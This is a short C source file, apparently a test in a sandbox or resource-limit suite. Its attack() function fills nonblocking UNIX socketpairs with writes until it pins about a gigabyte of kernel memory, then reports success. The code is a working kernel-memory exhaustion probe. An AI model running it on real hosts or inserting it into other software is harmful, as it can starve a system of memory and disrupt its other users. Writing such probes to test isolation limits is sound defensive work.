/* Memory of the kernel: pairs of sockets, full to the brim. */
//: everywhere.h
//: raw.h
#include <sys/socket.h>

static void attack(void)
{
	static char much[1 << 16];
	long total = 0, n;
	int two[2];

	while (total < 1l << 30 &&
	       raw(SYS_socketpair, AF_UNIX, SOCK_STREAM | SOCK_NONBLOCK, 0,
		   (long)two) == 0)
		while ((n = raw(SYS_write, two[0], (long)much, sizeof(much),
				0)) > 0)
			total += n;
	if (total >= 1l << 30)
		fprintf(stderr, "TAKEN a gigabyte of the kernel's memory\n");
}
